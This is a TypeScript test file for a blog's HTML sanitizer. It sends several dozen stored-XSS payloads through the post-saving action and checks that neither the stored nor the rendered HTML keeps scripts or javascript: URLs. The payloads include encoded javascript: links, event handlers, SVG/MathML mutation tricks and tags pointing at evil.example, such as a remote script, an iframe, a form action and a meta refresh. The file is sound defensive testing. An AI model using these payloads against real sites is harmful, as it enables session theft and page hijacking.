import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { beforeAll, describe, expect, it, vi } from 'vitest'
import { ArticleBody } from '@/components/blog/article-body'
import { getPublishedPost } from '@/server/blog/public-posts'
import { sanitizePostHtml } from '@/server/content/sanitize'
import { savePostAction } from '@/server/posts/actions'
import { TEST_DIALECTS } from '../support/databases'
import { unsafeParts } from '../support/html-safety'
import { setupTestDatabase } from '../support/setup-database'
import { newPostInput, readPost, signInEditor } from './posts-support'

const request = vi.hoisted(() => ({ cookie: '' }))
vi.mock('next/headers', () => ({
  headers: async () => new Headers(request.cookie ? { cookie: request.cookie } : {}),
}))
vi.mock('next/cache', () => ({ revalidateTag: vi.fn() }))

/* Stored-XSS payloads sent through the real save action, then read back and rendered. */
const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '"><script>alert(1)</script>',
  '<template><script>alert(1)</script></template>',
  '<img src=x onerror=alert(1)>',
  '<img src="/api/uploads/blog-images/a.webp" onload="alert(1)">',
  '<img src="javascript:alert(1)">',
  '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img src=//evil.example/x.png>',
  '<img src="x" srcset="javascript:alert(1)">',
  '<img src="https://ok.example/x.png" alt="x" onerror="alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;script:alert(1)">x</a>',
  '<a href="java&#0000115;cript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="javascript:void(0)" target="_blank">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="DATA:text/html,x">x</a>',
  '<a href="#" onclick="alert(1)">x</a>',
  '<a href="https://ok.example" onmouseover="alert(1)">x</a>',
  '<a href="x" target="_blank" rel="opener">x</a>',
  '<p onmouseover="alert(1)">x</p>',
  '<span title="x" onmouseenter="alert(1)">y</span>',
  '<code onclick="alert(1)">x</code>',
  '<pre><code class="x" onload="y">z</code></pre>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<span style="width: expression(alert(1))">x</span>',
  '<h2 style="position:fixed;top:0;left:0">x</h2>',
  '<div tabindex="1" onfocusin="alert(1)">x</div>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object>',
  '<embed src="x.swf">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<p><svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg></p>',
  '<math><a href="javascript:alert(1)">x</a></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form action="https://evil.example"><input name=x></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<select onfocus=alert(1) autofocus>',
  '<isindex action=javascript:alert(1) type=image>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<xss onpointerover=alert(1)>x</xss>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<base href="https://evil.example/">',
  '<style>body{display:none}</style>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<<script>alert(1)//<</script>',
  '<img """><script>alert(1)</script>">',
  '<p>ok</p><!--<script>alert(1)</script>-->',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><script>alert(1)</script></textarea>',
]

function expectSafe(html: string) {
  expect(unsafeParts(html)).toEqual([])
  // Event handlers are attributes outside the allowlist: the parser above reports them.
  expect(html).not.toMatch(/<script|javascript:|vbscript:|data:/i)
}

describe.each(TEST_DIALECTS)('stored XSS through savePostAction on %s', (dialect) => {
  const handle = setupTestDatabase(dialect)

  beforeAll(async () => {
    request.cookie = (await signInEditor(`xss-${dialect}`)).cookie
  })

  it('has a corpus of at least 50 vectors', () => {
    expect(VECTORS.length).toBeGreaterThanOrEqual(50)
  })

  it.each(VECTORS.map((vector, index) => [index, vector] as const))(
    'vector %i is neither stored nor rendered: %s',
    async (index, vector) => {
      const result = await savePostAction(
        newPostInput({
          intent: 'publish',
          slug: `xss-${index}`,
          content: `<p>Parágrafo seguro ${index}.</p>${vector}`,
        }),
      )
      if (!result.ok) {
        // An image this site does not store is refused as a whole (posts-images.test.ts), and
        // so is publishing one without alt text (publish-checklist.test.ts): the vector is not
        // stored; what the sanitizer would have made of it is still checked.
        expect(result.fieldErrors?.content?.[0]).toMatch(
          /^A imagem .* (não foi enviada ao blog|está sem texto alternativo)/,
        )
        expect(await getPublishedPost(handle().db, `xss-${index}`)).toBeNull()
        expectSafe(sanitizePostHtml(vector))
        return
      }
      const stored = (await readPost(handle(), result.data.id)).content
      expect(stored).toContain(`Parágrafo seguro ${index}.`)
      expectSafe(stored)

      const post = await getPublishedPost(handle().db, `xss-${index}`)
      if (!post) throw new Error('the post is not public')
      const rendered = renderToStaticMarkup(createElement(ArticleBody, { html: post.content }))
      // The component's own wrapper is trusted markup; what it wraps is the post's HTML.
      const wrapper = /^<div data-article-body="" class="[^"<>]*">([\s\S]*)<\/div>$/.exec(rendered)
      expect(wrapper).not.toBeNull()
      expectSafe(wrapper?.[1] ?? '')
    },
  )

  it('the checker itself catches what it must', () => {
    expect(unsafeParts('<a href="java\tscript:x">x</a>')).not.toEqual([])
    expect(unsafeParts('<img src=x onerror=y>')).not.toEqual([])
    expect(unsafeParts('<a href="https://x" target="_blank">x</a>')).not.toEqual([])
    expect(unsafeParts('<iframe></iframe>')).not.toEqual([])
  })
})
